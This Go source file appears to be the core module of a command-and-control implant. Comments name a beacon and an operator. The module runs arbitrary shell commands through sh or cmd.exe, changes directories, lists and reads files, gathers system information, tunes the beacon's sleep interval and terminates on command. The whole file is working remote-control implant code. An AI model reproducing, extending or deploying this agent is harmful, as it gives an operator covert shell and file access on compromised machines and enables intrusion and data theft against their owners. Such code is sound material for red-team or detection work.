// ABOUTME: Built-in capability module covering the baseline agent verbs.
// ABOUTME: Shell execution, filesystem verbs, sysinfo, sleep tuning, and exit.

package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"time"
)

const shellTimeout = 5 * time.Minute

// Controller is the beacon surface the core module needs for the verbs that
// change loop behavior. Kept narrow so tests can substitute a fake.
type Controller interface {
	SetSleepInterval(seconds int) int
	Terminate()
}

// CoreModule implements the baseline verb set every agent carries.
type CoreModule struct {
	ctrl    Controller
	sysinfo func() string
}

// NewCoreModule builds the baseline module bound to a beacon controller.
func NewCoreModule(ctrl Controller, agentID string) *CoreModule {
	return &CoreModule{
		ctrl: ctrl,
		sysinfo: func() string {
			data, err := json.MarshalIndent(CollectSystemInfo(agentID), "", "  ")
			if err != nil {
				return fmt.Sprintf("collecting system info: %v", err)
			}
			return string(data)
		},
	}
}

func (m *CoreModule) Name() string { return "core" }

func (m *CoreModule) Initialize(ctx context.Context) error { return nil }

func (m *CoreModule) Shutdown(ctx context.Context) error { return nil }

func (m *CoreModule) Capabilities() []string {
	return []string{"shell", "pwd", "cd", "ls", "cat", "sysinfo", "sleep", "exit"}
}

func (m *CoreModule) Execute(ctx context.Context, verb string, args map[string]string) (string, error) {
	switch verb {
	case "shell":
		return m.execShell(ctx, args)
	case "pwd":
		return m.execPwd()
	case "cd":
		return m.execCd(args)
	case "ls":
		return m.execLs(args)
	case "cat":
		return m.execCat(args)
	case "sysinfo":
		return m.sysinfo(), nil
	case "sleep":
		return m.execSleep(args)
	case "exit":
		m.ctrl.Terminate()
		return "terminating", nil
	default:
		return "", fmt.Errorf("verb %q not handled by core module", verb)
	}
}

// execShell spawns a shell child process and captures combined output.
// Output is returned even on a non-zero exit so the operator sees stderr.
func (m *CoreModule) execShell(ctx context.Context, args map[string]string) (string, error) {
	command := args["command"]
	if command == "" {
		return "", fmt.Errorf("shell requires a command argument")
	}

	runCtx, cancel := context.WithTimeout(ctx, shellTimeout)
	defer cancel()

	var cmd *exec.Cmd
	if runtime.GOOS == "windows" {
		cmd = exec.CommandContext(runCtx, "cmd.exe", "/C", command)
	} else {
		cmd = exec.CommandContext(runCtx, "/bin/sh", "-c", command)
	}

	output, err := cmd.CombinedOutput()
	if err != nil {
		if len(output) > 0 {
			return "", fmt.Errorf("%s: %w", strings.TrimSpace(string(output)), err)
		}
		return "", fmt.Errorf("running command: %w", err)
	}
	return string(output), nil
}

func (m *CoreModule) execPwd() (string, error) {
	wd, err := os.Getwd()
	if err != nil {
		return "", fmt.Errorf("getting working directory: %w", err)
	}
	return wd, nil
}

func (m *CoreModule) execCd(args map[string]string) (string, error) {
	path := args["path"]
	if path == "" {
		return "", fmt.Errorf("cd requires a path argument")
	}
	if err := os.Chdir(path); err != nil {
		return "", fmt.Errorf("changing directory: %w", err)
	}
	wd, err := os.Getwd()
	if err != nil {
		return "", fmt.Errorf("getting working directory: %w", err)
	}
	return wd, nil
}

func (m *CoreModule) execLs(args map[string]string) (string, error) {
	path := args["path"]
	if path == "" {
		path = "."
	}

	entries, err := os.ReadDir(path)
	if err != nil {
		return "", fmt.Errorf("listing directory: %w", err)
	}

	names := make([]string, 0, len(entries))
	for _, entry := range entries {
		name := entry.Name()
		if entry.IsDir() {
			name += "/"
		}
		names = append(names, name)
	}
	sort.Strings(names)
	return strings.Join(names, "\n"), nil
}

func (m *CoreModule) execCat(args map[string]string) (string, error) {
	path := args["path"]
	if path == "" {
		return "", fmt.Errorf("cat requires a path argument")
	}
	data, err := os.ReadFile(path)
	if err != nil {
		return "", fmt.Errorf("reading file: %w", err)
	}
	return string(data), nil
}

func (m *CoreModule) execSleep(args map[string]string) (string, error) {
	raw := args["seconds"]
	if raw == "" {
		return "", fmt.Errorf("sleep requires a seconds argument")
	}
	seconds, err := strconv.Atoi(raw)
	if err != nil {
		return "", fmt.Errorf("parsing seconds %q: %w", raw, err)
	}
	applied := m.ctrl.SetSleepInterval(seconds)
	return fmt.Sprintf("sleep interval set to %ds", applied), nil
}
